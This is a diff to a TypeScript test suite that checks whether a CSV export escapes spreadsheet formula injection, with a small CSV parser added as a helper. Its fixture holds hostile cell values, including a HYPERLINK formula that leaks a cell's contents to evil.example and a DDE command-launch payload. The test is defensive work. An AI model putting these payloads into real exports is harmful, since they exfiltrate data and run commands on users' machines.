@@ -5,8 +5,11 @@
  */
 import assert from "node:assert/strict";
 import { dbTest } from "../helpers/db.ts";
-import { makeKey, setUsed, type TestApp, testApp, usedOf } from "../helpers/app.ts";
+import { loadFixture, makeKey, setUsed, type TestApp, testApp, usedOf } from "../helpers/app.ts";
+import { OPPORTUNITY } from "../helpers/imports.ts";
+import { importLines } from "../../src/ingest/import.ts";
 import { seedDemo } from "../../src/ingest/seed.ts";
+import { csvCell } from "../../src/rest/csv.ts";
 import { PLAN_LIMITS } from "../../src/platform/plans.ts";
 
 /** Every item of the list of `filters`, walked by cursor in pages of 100. */
@@ -138,5 +141,90 @@ dbTest("the export's refusals charge nothing", async (db, t) => {
   await t.step("POST: 405", async () => {
     const res = await app.get("/api/v1/opportunities/export", business.key, { method: "POST" });
     assert.equal(res.status, 405);
+  });
+});
+
+/** Every record of a CSV text (RFC 4180: quoted fields may hold commas, quotes and CR LF). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let fields: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    let value = "";
+    if (text[i] === '"') {
+      i++;
+      while (i < text.length) {
+        if (text[i] === '"' && text[i + 1] === '"') (value += '"'), (i += 2);
+        else if (text[i] === '"') break;
+        else value += text[i++];
+      }
+      i++;
+    } else {
+      while (i < text.length && text[i] !== "," && text[i] !== "\r") value += text[i++];
+    }
+    fields.push(value);
+    if (text[i] === ",") i++;
+    else if (text.startsWith("\r\n", i)) (records.push(fields), (fields = []), (i += 2));
+    else throw new Error(`Unexpected character at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
+  }
+  return records;
+}
+
+dbTest("CSV cells that a spreadsheet would read as a formula stay text", async (db, t) => {
+  const app = testApp(db);
+  await loadFixture(db.sql);
+  const hostile = {
+    ...OPPORTUNITY,
+    external_id: "formula-1",
+    title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    channel_name: "@SUM(1+1)*cmd|' /C calc'!A0",
+    target_audience: "=1+1",
+    monetization_model: "-2+3",
+  };
+  const more = [
+    { ...OPPORTUNITY, external_id: "formula-2", title: "+1 for invoices", target_audience: "+x" },
+    { ...OPPORTUNITY, external_id: "formula-3", title: "-10% churn", monetization_model: "@x" },
+  ];
+  const summary = await importLines(db.sql, [hostile, ...more].map((r) => JSON.stringify(r)));
+  assert.equal(summary.opportunities, 3);
+  const { key } = await makeKey(db.sql, "business");
+
+  await t.step("CSV: a leading ' before = + - and @, in every text column", async () => {
+    const res = await app.get("/api/v1/opportunities/export?format=csv&online_only=false", key);
+    assert.equal(res.status, 200);
+    const [header, ...rows] = parseCsv(await res.text());
+    const cell = (row: string[], name: string) => row[header.indexOf(name)];
+    const byTitle = new Map(rows.map((row) => [cell(row, "title"), row]));
+    const row = byTitle.get(`'${hostile.title}`);
+    assert.ok(row, [...byTitle.keys()].join(" | "));
+    assert.equal(cell(row, "channel_name"), `'${hostile.channel_name}`);
+    assert.equal(cell(row, "target_audience"), "'=1+1");
+    assert.equal(cell(row, "monetization_model"), "'-2+3");
+    assert.equal(cell(row, "score"), "50", "numbers stay numbers");
+    assert.equal(cell(byTitle.get("'+1 for invoices")!, "target_audience"), "'+x");
+    assert.equal(cell(byTitle.get("'-10% churn")!, "monetization_model"), "'@x");
+    for (const r of rows) {
+      for (const value of r) assert.doesNotMatch(value, /^[=+\-@\t\r]/, JSON.stringify(r));
+    }
+    assert.equal(rows.length, 9);
+  });
+
+  await t.step("a tab or a carriage return first (which imports trim): a leading ' too", () => {
+    assert.equal(csvCell("\t=1+1"), "'\t=1+1");
+    assert.equal(csvCell("\r=1"), `"'\r=1"`);
+    assert.equal(csvCell("=a,b"), `"'=a,b"`);
+    assert.equal(csvCell("a=b"), "a=b");
+    assert.equal(csvCell(-5), "-5", "a number is no formula");
+    assert.equal(csvCell(false), "false");
+  });
+
+  await t.step("JSON Lines: the values as they are", async () => {
+    const res = await app.get("/api/v1/opportunities/export?online_only=false", key);
+    const items = (await res.text()).trimEnd().split("\n").map((l) => JSON.parse(l));
+    const item = items.find((i) => i.title === hostile.title);
+    assert.ok(item);
+    assert.equal(item.channel_name, hostile.channel_name);
+    assert.equal(item.target_audience, hostile.target_audience);
+    assert.equal(item.monetization_model, hostile.monetization_model);
   });
 });
